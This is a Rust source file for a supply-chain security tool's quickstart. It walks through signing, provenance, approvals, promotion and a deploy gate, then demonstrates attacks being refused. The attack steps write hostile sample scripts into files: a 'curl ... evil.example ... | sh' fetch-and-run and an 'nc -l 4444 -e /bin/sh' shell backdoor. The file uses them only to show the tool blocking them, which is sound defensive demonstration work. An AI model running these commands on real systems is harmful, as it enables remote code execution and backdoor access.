//! `custody quickstart`: the whole flow on a fresh machine, with real commands. It starts a
//! server in a temporary data directory, makes a trust root with separate root, build,
//! release and approver keys, builds a sample project in the sandbox, pushes it with its
//! provenance, approves and promotes it to `prod`, passes the gate, and then shows attacks
//! being stopped. Every step runs the `custody` binary itself (the command is printed as it
//! runs), so what you read is what you can type.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use custody_app::{Code, Error, Result};
use serde_json::{Value, json};

use crate::output::Output;

#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// Work in this directory (created; must not exist) instead of a new temporary one.
    #[arg(long)]
    dir: Option<PathBuf>,
    /// Keep the server running at the end (until you press Ctrl-C) to try more commands.
    #[arg(long)]
    keep_running: bool,
}

/// The policy the walkthrough's `prod` environment uses (the shipped example library plus
/// parameters for this project).
const LIB_REGO: &str = include_str!("../../../../policies/examples/lib.rego");

fn prod_policy() -> String {
    format!(
        r#"# The quickstart's production policy: the shipped example rules (lib.rego) with this
# project's parameters. Edit it and run 'custody policy test policies/'.
package custody.env.prod

import data.custody.lib

trusted_builders := {{"https://custody.dev/builder/local@v1"}}

source_repository := "{SOURCE_URI}"

release_team := {{"alice@example.com", "bob@example.com"}}

deny contains msg if {{
	some msg in lib.provenance_denials(input, trusted_builders, source_repository, {{"refs/heads/main"}})
}}

deny contains msg if {{
	some msg in lib.approval_denials(input, release_team, 2)
}}

deny contains msg if {{
	some msg in lib.freshness_denials(input, 30)
}}

deny contains msg if {{
	some msg in lib.rejected_evidence_denials(input, {{"signature", "provenance"}})
}}
"#
    )
}

/// Where the sample project claims to come from (its `origin` remote).
const SOURCE_REMOTE: &str = "https://example.com/acme/hello.git";
const SOURCE_URI: &str = "git+https://example.com/acme/hello.git";
const PASSPHRASE_PREFIX: &str = "quickstart-";

struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

struct Walkthrough<'a> {
    out: &'a Output,
    dir: PathBuf,
    exe: PathBuf,
    passphrase: String,
    token: Option<String>,
    step: usize,
    steps: Vec<Value>,
}

/// What a command printed: its JSON document (`--json`) and exit status.
struct Ran {
    status: i32,
    doc: Value,
}

impl Walkthrough<'_> {
    fn title(&mut self, title: &str) {
        self.step += 1;
        self.out.info(&format!("\n{:>2}. {title}", self.step));
    }

    fn command(&self, program: &Path, args: &[&str]) -> Command {
        let mut cmd = Command::new(program);
        cmd.args(args)
            .current_dir(&self.dir)
            .env("CUSTODY_PASSPHRASE", &self.passphrase)
            .env_remove("CUSTODY_BUILDER_ID")
            .stdin(Stdio::null());
        match &self.token {
            Some(t) => cmd.env("CUSTODY_TOKEN", t),
            None => cmd.env_remove("CUSTODY_TOKEN"),
        };
        cmd
    }

    /// Runs `custody ARGS --json`, printing the command.
    fn custody(&mut self, args: &[&str]) -> Result<Ran> {
        self.out
            .info(&format!("    $ custody {}", shell_words(args)));
        let mut all: Vec<&str> = vec!["--json"];
        all.extend_from_slice(args);
        let output = self
            .command(&self.exe.clone(), &all)
            .output()
            .map_err(|e| Error::new(Code::Internal, format!("cannot run custody: {e}")))?;
        let doc = String::from_utf8_lossy(&output.stdout)
            .lines()
            .rev()
            .find_map(|l| serde_json::from_str::<Value>(l).ok())
            .unwrap_or(Value::Null);
        Ok(Ran {
            status: output.status.code().unwrap_or(-1),
            doc,
        })
    }

    /// A step that must succeed; returns its JSON document.
    fn ok(&mut self, args: &[&str], detail: impl FnOnce(&Value) -> String) -> Result<Value> {
        let ran = self.custody(args)?;
        if ran.status != 0 {
            let err = &ran.doc["error"];
            return Err(Error::new(
                Code::Internal,
                format!(
                    "quickstart step {} failed: custody {} exited {}: {} {}",
                    self.step,
                    args.first().copied().unwrap_or(""),
                    ran.status,
                    err["code"].as_str().unwrap_or(""),
                    err["message"].as_str().unwrap_or("")
                ),
            ));
        }
        self.out.info(&format!("    ✓ {}", detail(&ran.doc)));
        self.steps
            .push(json!({ "step": self.step, "ok": true, "command": args.first() }));
        Ok(ran.doc)
    }

    /// A step that must be refused with `expected`.
    fn refused(&mut self, args: &[&str], expected: Code) -> Result<Value> {
        let ran = self.custody(args)?;
        let code = ran.doc["error"]["code"].as_str().unwrap_or("").to_owned();
        if ran.status == 0 || code != expected.to_string() {
            return Err(Error::new(
                Code::Internal,
                format!(
                    "quickstart step {}: expected a refusal with {expected}, got exit {} {code}",
                    self.step, ran.status
                ),
            ));
        }
        self.out.info(&format!(
            "    ✗ refused, as it should be: {code} {}",
            expected.title()
        ));
        match ran.doc["reasons"].as_array() {
            Some(reasons) if !reasons.is_empty() => {
                for reason in reasons {
                    self.out
                        .info(&format!("      - {}", reason.as_str().unwrap_or("")));
                }
            }
            _ => self.out.info(&format!(
                "      {}",
                ran.doc["error"]["message"].as_str().unwrap_or("")
            )),
        }
        self.steps
            .push(json!({ "step": self.step, "refused": code }));
        Ok(ran.doc)
    }

    /// Runs a helper program (git, cp) for the sample project, printing it.
    fn run(&self, program: &str, args: &[&str], cwd: &Path) -> Result<()> {
        let line = format!("{program} {}", shell_words(args));
        match cwd.strip_prefix(&self.dir) {
            Ok(sub) if !sub.as_os_str().is_empty() => self
                .out
                .info(&format!("    $ (cd {} && {line})", sub.display())),
            _ => self.out.info(&format!("    $ {line}")),
        }
        let status = self
            .command(Path::new(program), args)
            .current_dir(cwd)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .map_err(|e| {
                Error::new(
                    Code::SandboxUnavailable,
                    format!("cannot run {program}: {e}"),
                )
                .with_hint(
                    "The quickstart needs git and bubblewrap: apt-get install git bubblewrap",
                )
            })?;
        if !status.success() {
            return Err(Error::new(
                Code::Internal,
                format!("{program} {} failed with {status}", args.join(" ")),
            ));
        }
        Ok(())
    }
}

fn shell_words(args: &[&str]) -> String {
    args.iter()
        .map(|a| {
            if a.is_empty() || a.contains([' ', '"', '\'', '$', '{', '}', '|', '&', ';', '*']) {
                format!("'{}'", a.replace('\'', "'\\''"))
            } else {
                (*a).to_owned()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn unique_dir() -> PathBuf {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    std::env::temp_dir().join(format!("custody-quickstart-{}-{nanos}", std::process::id()))
}

fn write(path: &Path, bytes: &[u8]) -> Result<()> {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).map_err(|e| Error::write(parent, &e))?;
    }
    std::fs::write(path, bytes).map_err(|e| Error::write(path, &e))
}

/// Starts `custody serve` and waits for the address it listens on.
fn start_server(w: &mut Walkthrough<'_>) -> Result<(Server, String)> {
    let args = [
        "serve",
        "--data",
        "server",
        "--listen",
        "127.0.0.1:0",
        "--no-passphrase",
        "--config",
        "registry.toml",
        "--policies",
        "policies",
    ];
    w.out
        .info(&format!("    $ custody {} &", shell_words(&args)));
    let mut all = vec!["--json"];
    all.extend_from_slice(&args);
    let mut child = w
        .command(&w.exe.clone(), &all)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|e| Error::new(Code::Internal, format!("cannot start custody serve: {e}")))?;
    let stdout = child
        .stdout
        .take()
        .ok_or_else(|| Error::new(Code::Internal, "no stdout from custody serve"))?;
    let server = Server(child);
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead as _;
        for line in std::io::BufReader::new(stdout)
            .lines()
            .map_while(std::result::Result::ok)
        {
            if let Ok(doc) = serde_json::from_str::<Value>(&line)
                && let Some(addr) = doc.get("listening").and_then(Value::as_str)
            {
                let _ = tx.send(addr.to_owned());
            }
        }
    });
    let addr = rx.recv_timeout(Duration::from_secs(30)).map_err(|_| {
        Error::new(
            Code::ListenFailed,
            "custody serve did not start within 30 s",
        )
    })?;
    Ok((server, addr))
}

const REGISTRY_TOML: &str = r#"# The quickstart's registry: release artifacts under acme/ must be signed by a release key
# and logged; v* tags never move.
[[repository]]
pattern = "acme/*"
enforce_push = true
enforce_pull = true
immutable_tags = ["v*"]
signer_role = "release"
"#;

const HELLO_SH: &str = "#!/bin/sh\necho \"hello from acme, built by custody\"\n";
const BUILD_SH: &str = "#!/bin/sh\n# The sample project's build: copies the program into the output directory.\nset -eu\ncp hello.sh \"$CUSTODY_OUT/hello\"\nchmod 755 \"$CUSTODY_OUT/hello\"\n";

#[allow(clippy::too_many_lines)]
pub(crate) fn run(args: Args, out: &Output) -> Result<()> {
    let started = Instant::now();
    let dir = args.dir.unwrap_or_else(unique_dir);
    std::fs::create_dir(&dir).map_err(|e| Error::write(&dir, &e))?;
    let exe = std::env::current_exe().map_err(|e| {
        Error::new(
            Code::Internal,
            format!("cannot find the custody binary: {e}"),
        )
    })?;
    let mut w = Walkthrough {
        out,
        dir: dir.clone(),
        exe,
        passphrase: format!("{PASSPHRASE_PREFIX}{}", std::process::id()),
        token: None,
        step: 0,
        steps: Vec::new(),
    };
    out.info(&format!(
        "custody quickstart: working in {}\n(keys are encrypted with a passphrase held in CUSTODY_PASSPHRASE for this walkthrough)",
        dir.display()
    ));

    // 1. Server.
    w.title("Start a custody server: transparency log, OCI registry and environments, on the embedded storage");
    write(&dir.join("registry.toml"), REGISTRY_TOML.as_bytes())?;
    write(&dir.join("policies/lib.rego"), LIB_REGO.as_bytes())?;
    write(&dir.join("policies/prod.rego"), prod_policy().as_bytes())?;
    let (server, addr) = start_server(&mut w)?;
    let url = format!("http://{addr}");
    out.info(&format!(
        "    ✓ listening on {url}; data in server/ (its root key signed trust root v1, its log key signs checkpoints)"
    ));
    let token = w.ok(
        &[
            "token",
            "create",
            "--data",
            "server",
            "--scope",
            "admin",
            "--description",
            "quickstart",
        ],
        |d| {
            format!(
                "token {} created (its secret is shown once; here it goes into CUSTODY_TOKEN)",
                d["id"].as_str().unwrap_or("")
            )
        },
    )?;
    w.token = token["token"].as_str().map(str::to_owned);

    // 2. Keys and trust root.
    w.title("Generate separate keys: build (signs provenance), release (signs what is shipped), two approvers");
    for (name, algorithm) in [
        ("build", "ed25519"),
        ("release", "ecdsa-p256"),
        ("alice", "ed25519"),
        ("bob", "ed25519"),
    ] {
        w.ok(
            &["key", "generate", "--out", name, "--algorithm", algorithm],
            |d| {
                format!(
                    "{name}: {} ({algorithm}, private key encrypted)",
                    d["keyId"].as_str().unwrap_or("")
                )
            },
        )?;
    }
    w.title("Trust root v2: every key with exactly one role and its owner, signed by the server's root key");
    w.ok(
        &[
            "trust-root",
            "init",
            "--from",
            "server/trust-root.json",
            "--out",
            "trust-root.json",
            "--key",
            "build=build.pub",
            "--key",
            "release=release.pub,owner=carol@example.com",
            "--key",
            "approver=alice.pub,owner=alice@example.com",
            "--key",
            "approver=bob.pub,owner=bob@example.com",
        ],
        |d| format!("version {} written", d["version"]),
    )?;
    w.ok(
        &[
            "trust-root",
            "sign",
            "trust-root.json",
            "--key",
            "server/keys/root.key",
        ],
        |_| "signed by the root key (its threshold is 1)".into(),
    )?;
    w.ok(
        &[
            "trust-root",
            "verify",
            "trust-root.json",
            "--previous",
            "server/trust-root.json",
        ],
        |d| {
            format!(
                "v{} chains from v1 (signed by v1's root keys)",
                d["version"]
            )
        },
    )?;
    w.run("cp", &["trust-root.json", "server/trust-root.json"], &dir)?;
    out.info("    ✓ the server now verifies against v2");

    // 3. Build.
    w.title("A sample project in git, built in the sandbox (no network, read-only source, pinned environment)");
    let project = dir.join("hello");
    write(&project.join("hello.sh"), HELLO_SH.as_bytes())?;
    write(&project.join("build.sh"), BUILD_SH.as_bytes())?;
    w.run("git", &["init", "-q", "-b", "main"], &project)?;
    w.run("git", &["remote", "add", "origin", SOURCE_REMOTE], &project)?;
    w.run("git", &["add", "hello.sh", "build.sh"], &project)?;
    w.run(
        "git",
        &[
            "-c",
            "user.name=Quickstart",
            "-c",
            "user.email=quickstart@example.com",
            "commit",
            "-q",
            "-m",
            "hello 1.0",
        ],
        &project,
    )?;
    w.ok(
        &[
            "build", "--source", "hello", "--out", "dist", "--key", "build.key", "--log", &url,
            "--", "sh", "build.sh",
        ],
        |d| {
            format!(
                "built commit {}; provenance signed by the build key after the sandbox exited, logged at index {}",
                d["commit"].as_str().map(|c| &c[..c.len().min(12)]).unwrap_or(""),
                d["logIndex"]
            )
        },
    )?;

    // 4. Push.
    let release = format!("{addr}/acme/hello:v1.0");
    w.title(
        "Push it with its provenance: the registry admits only a logged signature by a release key",
    );
    w.ok(
        &[
            "push",
            "dist/out/hello",
            &release,
            "--key",
            "release.key",
            "--bundle",
            "dist/provenance.sigstore.json",
            "--log",
            &url,
        ],
        |d| {
            format!(
                "manifest {} with {} referrers",
                d["manifest"].as_str().unwrap_or(""),
                d["referrers"].as_array().map_or(0, Vec::len)
            )
        },
    )?;

    // 5. Promotion needs approvals.
    w.title("Promote to prod without approvals: the prod policy refuses, with its reasons");
    w.refused(
        &[
            "promote",
            &release,
            "--to",
            "prod",
            "--key",
            "release.key",
            "--trust-root",
            "trust-root.json",
            "--log",
            &url,
        ],
        Code::PromotionDenied,
    )?;
    w.title(
        "Two people approve this exact digest for prod (signed, logged, attached to the artifact)",
    );
    for who in ["alice", "bob"] {
        w.ok(
            &[
                "approve",
                &release,
                "--env",
                "prod",
                "--key",
                &format!("{who}.key"),
                "--log",
                &url,
            ],
            |d| {
                format!(
                    "{who} approved {} (log index {})",
                    d["digest"].as_str().unwrap_or(""),
                    d["logIndex"]
                )
            },
        )?;
    }
    w.title(
        "Promote to prod: the server verifies everything again and records the signed promotion",
    );
    w.ok(
        &[
            "promote",
            &release,
            "--to",
            "prod",
            "--key",
            "release.key",
            "--trust-root",
            "trust-root.json",
            "--log",
            &url,
        ],
        |d| {
            format!(
                "prod record {} is {} (log index {})",
                d["sequence"],
                d["digest"].as_str().unwrap_or(""),
                d["logIndex"]
            )
        },
    )?;

    // 6. Gate and deploy.
    w.title(
        "The deploy gate, deciding locally from verified facts: may this artifact run in prod now?",
    );
    w.ok(
        &[
            "gate",
            &release,
            "--env",
            "prod",
            "--policies",
            "policies",
            "--trust-root",
            "trust-root.json",
        ],
        |d| format!("ALLOW (policy {})", d["policy"].as_str().unwrap_or("")),
    )?;
    w.title("Deploy: pull (verified before it is written) and audit the deployed files");
    std::fs::create_dir_all(dir.join("deploy")).map_err(|e| Error::write(&dir, &e))?;
    w.ok(
        &[
            "pull",
            &release,
            "--trust-root",
            "trust-root.json",
            "--role",
            "release",
            "--out",
            "deploy/hello",
        ],
        |d| {
            format!(
                "deploy/hello written ({})",
                d["layer"].as_str().unwrap_or("")
            )
        },
    )?;
    w.ok(
        &[
            "audit-deployed",
            "deploy",
            "--env",
            "prod",
            "--server",
            &url,
            "--trust-root",
            "trust-root.json",
        ],
        |d| {
            format!(
                "{} file(s) match prod's artifact",
                d["matched"].as_array().map_or(0, Vec::len)
            )
        },
    )?;

    // 7. Attacks.
    w.title("Attack: swap the binary on the deployed machine");
    write(
        &dir.join("deploy/hello"),
        b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
    )?;
    out.info("    (deploy/hello replaced by another program)");
    w.refused(
        &[
            "audit-deployed",
            "deploy",
            "--env",
            "prod",
            "--server",
            &url,
            "--trust-root",
            "trust-root.json",
        ],
        Code::DeployDrift,
    )?;
    w.title("Attack: re-tag — point the release tag at another artifact");
    write(&dir.join("evil/hello"), b"#!/bin/sh\necho pwned\n")?;
    w.refused(
        &[
            "push",
            "evil/hello",
            &release,
            "--key",
            "release.key",
            "--log",
            &url,
        ],
        Code::TagImmutable,
    )?;
    let latest = format!("{addr}/acme/hello:latest");
    w.ok(
        &[
            "push",
            "evil/hello",
            &latest,
            "--key",
            "release.key",
            "--log",
            &url,
        ],
        |_| "a mutable tag (latest) now names another signed artifact".into(),
    )?;
    w.refused(
        &[
            "gate",
            &latest,
            "--env",
            "prod",
            "--policies",
            "policies",
            "--trust-root",
            "trust-root.json",
        ],
        Code::DeployDenied,
    )?;
    w.title("Attack: push an unsigned artifact");
    write(
        &dir.join("evil/backdoor"),
        b"#!/bin/sh\nnc -l 4444 -e /bin/sh\n",
    )?;
    w.refused(
        &[
            "push",
            "evil/backdoor",
            &format!("{addr}/acme/hello:v2.0"),
            "--unsigned",
        ],
        Code::SignatureMissing,
    )?;

    let elapsed = started.elapsed();
    out.info(&format!(
        "\nAll {} steps behaved as expected in {:.1} s. Files are in {}\nNext: custody gate --help, custody explain --list, docs/policy.md",
        w.step,
        elapsed.as_secs_f64(),
        dir.display()
    ));
    if args.keep_running {
        out.info(&format!(
            "The server keeps running on {url}; make a token with 'custody token create --data {} --scope admin'. Press Ctrl-C to stop.",
            dir.join("server").display()
        ));
        let mut server = server;
        let _ = server.0.wait();
    } else {
        drop(server);
    }
    out.success(
        "",
        json!({ "dir": dir, "steps": w.steps, "seconds": elapsed.as_secs_f64() }),
    );
    Ok(())
}
